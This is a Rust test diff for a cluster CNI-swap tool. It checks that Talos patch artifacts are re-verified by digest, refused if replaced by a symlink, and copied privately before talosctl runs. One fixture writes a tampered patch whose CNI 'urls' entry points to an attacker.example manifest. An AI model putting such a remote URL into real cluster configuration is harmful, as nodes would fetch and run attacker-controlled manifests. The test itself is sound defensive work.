@@ -53,6 +53,10 @@ fn main() {
         Trial::test("helm_steps_prove_their_effect", helm_steps),
         Trial::test("talos_patches_are_read_back", talos_patch),
         Trial::test("omni_resources_are_read_back", omni_apply),
+        Trial::test(
+            "artifacts_are_checked_right_before_use",
+            artifacts_checked_before_use,
+        ),
     ];
     libtest_mimic::run(&Arguments::from_args(), tests).exit();
 }
@@ -186,6 +190,17 @@ fn built_argv_is_valid() -> Result<(), Failed> {
 
 /// An adapter whose cluster is never contacted (tool steps do not touch the API server).
 fn offline(dir: &Path) -> KubeActions {
+    offline_with(
+        dir,
+        cniswap_exec::digest::PlanDigest {
+            plan: "tools".into(),
+            files: Default::default(),
+        },
+    )
+}
+
+/// [`offline`], for a run that began with these artifact digests.
+fn offline_with(dir: &Path, digest: cniswap_exec::digest::PlanDigest) -> KubeActions {
     let kubeconfig = dir.join("kubeconfig");
     std::fs::write(
         &kubeconfig,
@@ -205,10 +220,7 @@ fn offline(dir: &Path) -> KubeActions {
         &plan,
         Settings {
             plan_dir: cniswap_exec::PlanDir::open(dir).unwrap(),
-            digest: cniswap_exec::digest::PlanDigest {
-                plan: "tools".into(),
-                files: Default::default(),
-            },
+            digest,
             agent_image: None,
         },
     )
@@ -438,6 +450,78 @@ fn talos_patch() -> Result<(), Failed> {
         .block_on(actions.talos_patched_on(&["cp1".into()], &ips, "disable.yaml"))
         .map_err(|e| e.failure().message.clone())?;
     check(after.0, format!("patched: {}", after.1))
+}
+
+/// An artifact changed after the run began (or replaced by a link) is refused right before
+/// its step uses it, and the tool never runs; the tool gets a checked copy, not the file.
+fn artifacts_checked_before_use() -> Result<(), Failed> {
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    std::fs::write(
+        d.join(".fake-talosctl.json"),
+        r#"{"nodes":{"10.0.0.1":[{"version":"v1alpha1","cluster":{"network":{"cni":{"name":"flannel"}}}}]}}"#,
+    )
+    .unwrap();
+    let planned = "cluster:\n  network:\n    cni:\n      name: none\n";
+    std::fs::create_dir_all(d.join("artifacts")).unwrap();
+    std::fs::write(d.join("artifacts/disable.yaml"), planned).unwrap();
+    let digest = cniswap_exec::digest::PlanDigest {
+        plan: "tools".into(),
+        files: [(
+            "artifacts/disable.yaml".to_string(),
+            cniswap_exec::digest::sha256(planned.as_bytes()),
+        )]
+        .into(),
+    };
+    let actions = offline_with(d, digest);
+    let ips = vec!["10.0.0.1".to_string()];
+    let patch = |actions: &KubeActions| {
+        actions
+            .block_on(actions.talos_patch_on(
+                &ips,
+                "artifacts/disable.yaml",
+                Duration::from_secs(30),
+            ))
+            .map_err(|e| e.failure().message.clone())
+    };
+    std::fs::write(
+        d.join("artifacts/disable.yaml"),
+        "cluster:\n  network:\n    cni:\n      name: custom\n      urls: [https://attacker.example/cni.yaml]\n",
+    )
+    .unwrap();
+    let changed = patch(&actions);
+    check(
+        changed
+            .as_ref()
+            .is_err_and(|e| e.contains("changed since the run began")),
+        format!("a changed artifact is refused: {changed:?}"),
+    )?;
+    let outside = tempfile::tempdir().unwrap();
+    std::fs::write(outside.path().join("other.yaml"), planned).unwrap();
+    std::fs::remove_file(d.join("artifacts/disable.yaml")).unwrap();
+    std::os::unix::fs::symlink(
+        outside.path().join("other.yaml"),
+        d.join("artifacts/disable.yaml"),
+    )
+    .unwrap();
+    let linked = patch(&actions);
+    check(
+        linked.as_ref().is_err_and(|e| e.contains("symbolic link")),
+        format!("a linked artifact is refused: {linked:?}"),
+    )?;
+    check(
+        !log(d).iter().any(|l| l.contains("patch")),
+        format!("talosctl never ran: {:?}", log(d)),
+    )?;
+    std::fs::remove_file(d.join("artifacts/disable.yaml")).unwrap();
+    std::fs::write(d.join("artifacts/disable.yaml"), planned).unwrap();
+    patch(&actions)?;
+    let ran = log(d);
+    check(
+        ran.iter()
+            .any(|l| l.contains("patch") && !l.contains(&d.display().to_string())),
+        format!("talosctl read a private copy: {ran:?}"),
+    )
 }
 
 fn omni_apply() -> Result<(), Failed> {
